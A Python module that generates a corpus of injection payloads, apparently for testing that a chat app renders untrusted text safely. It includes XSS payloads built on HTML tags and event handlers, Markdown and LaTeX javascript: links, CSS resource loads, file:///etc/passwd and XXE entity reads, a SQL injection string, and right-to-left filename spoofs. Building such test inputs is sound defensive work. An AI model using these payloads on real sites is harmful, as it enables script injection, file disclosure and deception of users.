r"""Texts that would run, load, link or rearrange something, were they read as more than text.

Each would set ``window.hacked``, open a dialog, ask the address it is given, or change the order of
what stands around it.
"""

from itertools import product
from typing import Final

_BREAKOUTS: Final = (
    "",
    '">',
    "'>",
    "</textarea></title></style></script>",
    "-->",
    "]]>",
    "</p>`}",
    "'\"};",
    "`-->\n\n",
)
"""What ends the place that a text may stand in."""
_ELEMENTS: Final = (
    '<img src="{url}" onerror="{hack}">',
    "<script>{hack};fetch('{url}')</script>",
    '<svg onload="{hack}"><image href="{url}"/><script>{hack}</script></svg>',
    '<iframe src="{url}" srcdoc="<script>parent.{hack}</script>"></iframe>',
    "<style>@import '{url}'; body{background:url({url})}</style>",
    '<video src="{url}" poster="{url}" onerror="{hack}" autoplay></video>',
    "<input autofocus onfocus={hack} formaction={url}>",
    '<details open ontoggle="alert(1);{hack}">x</details>',
)
_MORE_ELEMENTS: Final = (
    '<link rel="stylesheet" href="{url}">',
    '<link rel="prefetch" href="{url}"><link rel="preconnect" href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<base href="{url}">',
    '<object data="{url}" onerror="{hack}"></object>',
    '<embed src="{url}" onerror="{hack}">',
    '<audio src="{url}" onerror="{hack}" autoplay></audio>',
    '<form action="{url}"><button autofocus>send</button></form>',
    '<a href="javascript:{hack}" ping="{url}">click</a>',
    '<body onload="{hack}" background="{url}">',
    '<marquee onstart="{hack}">x</marquee>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{hack}"></style></table></math>',
    '<svg><animate onbegin="{hack}" attributeName=x dur=1s></svg>',
    '<svg><use href="{url}#x"/></svg>',
    '<img srcset="{url} 1x, {url}2 2x">',
    '<picture><source srcset="{url}"><img src="{url}"></picture>',
    '<template><img src="{url}" onerror="{hack}"></template>',
    '<noscript><p title="</noscript><img src=x onerror={hack}>"></noscript>',
    '<x onclick={hack} onpointerenter={hack} style="position:fixed;inset:0">over all</x>',
    '<div style="background:url({url});position:fixed;inset:0;z-index:99999">over all</div>',
    "&lt;img src=x onerror={hack}&gt;",
    "&#60;script&#62;{hack}&#60;/script&#62;",
    "<scr<script>ipt>{hack}</scr</script>ipt>",
    "<IMG SRC=`javascript:{hack}`>",
    "<img/src/onerror={hack}>",
    "\\u003cimg src=x onerror={hack}\\u003e",
    "<portal src={url}></portal><frameset><frame src={url}></frameset>",
    "<slot name=x onslotchange={hack}></slot><dialog open>x</dialog>",
    "<button popovertarget=p>x</button><div id=p popover>{url}</div>",
    "<![CDATA[<img src={url} onerror={hack}>]]>",
)
_MARKDOWN: Final = (
    "![a]({url})",
    "![a][r]\n\n[r]: {url}",
    "[![a]({url})]({url})",
    "![]({url} 'title' =1x1)",
    '![a](<{url}> "title")',
    "[more]({url})",
    "[more](javascript:{hack})",
    "[more](JaVaScRiPt:{hack})",
    "[more](data:text/html,<script>{hack}</script>)",
    "<{url}>",
    "See {url} for more.",
    "See www.skerne.example/{url} for more.",
    "# A heading with ![a]({url})",
    "| a | b |\n|---|---|\n| ![a]({url}) | c |",
    "> a quotation ![a]({url})",
    "- [ ] a task ![a]({url})",
    "```html\n<img src={url}>\n```",
    "    <img src={url}>",
    "text[^1]\n\n[^1]: ![a]({url})",
    "~~struck~~ **bold** _slanted_ `code` ![a]({url})",
    "---\ntitle: another\n---\n![a]({url})",
    "* * *\n![a]({url})",
    "pell@skerne.example mailto:pell@skerne.example",
    "[TOC] [[Page]] {{template}} ((note)) ![a]({url})",
)
_STREAMLIT: Final = (
    ":red[danger] ![a]({url})",
    ":blue-background[over]",
    ":rainbow[colours]",
    ":small[small] :gray-badge[badge]",
    ":material/delete: :material/home:",
    ":streamlit: :smile: :shield:",
    ":red[![a]({url})]",
    ":violet-badge[:material/star: ![a]({url})]",
    "$x^2$ and $$\\int_0^1$$",
    "$\\includegraphics{{url}}$",
    "$\\href{javascript:{hack}}{x}$",
    "$\\url{{url}}$",
    "$\\htmlData{x=1}{y}$ $\\htmlStyle{background:url({url})}{y}$",
    "\\(\\unicode{x202E}\\) \\[x\\]",
    "$\\def\\a{\\a\\a}\\a$",
    "<-- --> <= >= -- :x: (c)",
)
_STYLES: Final = (
    "}*{background:url({url})}",
    "</style><style>*{background:url({url})}</style>",
    "background:url({url})",
    "color:red;background-image:url('{url}')",
    "expression(alert(1))",
    "@import url({url});",
    "@font-face{font-family:x;src:url({url})}",
    "--st-font:url({url})",
)
_ADDRESSES: Final = (
    "javascript:{hack}",
    "data:text/html,<script>{hack}</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//{host}/x",
    "\\\\{host}\\share",
    "ws://{host}/x",
    "ftp://{host}/x",
    "blob:{url}",
    "../../../../etc/passwd",
    "?chat=x&essay=y&words=1-2#<script>",
    "%3Cscript%3E{url}%3C/script%3E",
    "/component/_stcore/{url}",
)
BIDIRECTIONAL: Final = (
    "\u202etxet desrever",
    "\u202dforced \u202eback",
    "\u202b embedded",
    "\u202a embedded",
    "\u2067 isolated and never closed",
    "\u2066\u2067\u2068 three isolates",
    "\u2069\u2069\u2069\u202e closed too often",
    "\u202c\u202c\u202e closed too often",
    "\u200f\u200f mark \u200e",
    "\u061c Arabic letter mark",
    "אבג 123 דהו (1)",
    "مرحبا 123 [1] abc",
    "evil\u202egnp.exe",
    "\u2067\u202e\u2066\u202e nested \u2069",
    "\u202e\u2069\u202e mixed",
)
_CHARACTERS: Final = (
    "null \x00 byte",
    "bell \x07, escape \x1b[31mred\x1b[0m, delete \x7f",
    "carriage\rreturn and\x0b others\x0c",
    "line\u2028and\u2029paragraph separators",
    "zero\u200bwidth\u200dspaces\ufeff and\u00adhyphens",
    "noncharacters \ufffe \uffff \U0001ffff",
    "tags \U000e0041\U000e0042 and variation \ufe0f\ufe0e",
    "Z" + "\u0300\u0301\u0302\u0303" * 60 + " piled marks",
    "👩‍👩‍👧‍👦" * 20,
    "unbroken" * 200,
    "﷽" * 30,
    "W" * 400,
    "\u3000\u2003\u00a0 odd spaces \u180e",
    "ﬁ ﷺ ℡ ① widened",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "%s %n %(x)s {0} {url!r}",
    "'; DROP TABLE turn; --",
    "__proto__ constructor toString",
    "\"quotes\" 'both' `three` \\ back",
    "0 1-2 -1 NaN null undefined true",
    '{"kind": "chats", "turns": []}',
    "</div></section></main>",
    "<!doctype html><html><head>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
)


def make_payloads(host: str) -> tuple[str, ...]:
    """Return the texts, no two alike; those that would ask something ask ``host``."""
    texts = (
        *(f"{escape}{one}" for escape, one in product(_BREAKOUTS, _ELEMENTS)),
        *_MORE_ELEMENTS,
        *_MARKDOWN,
        *_STREAMLIT,
        *_STYLES,
        *_ADDRESSES,
        *BIDIRECTIONAL,
        *_CHARACTERS,
    )
    fill = {"{hack}": "window.hacked=1", "{url}": f"http://{host}/asked", "{host}": host}
    for place, words in fill.items():
        texts = tuple(text.replace(place, words) for text in texts)
    return tuple(dict.fromkeys(texts))
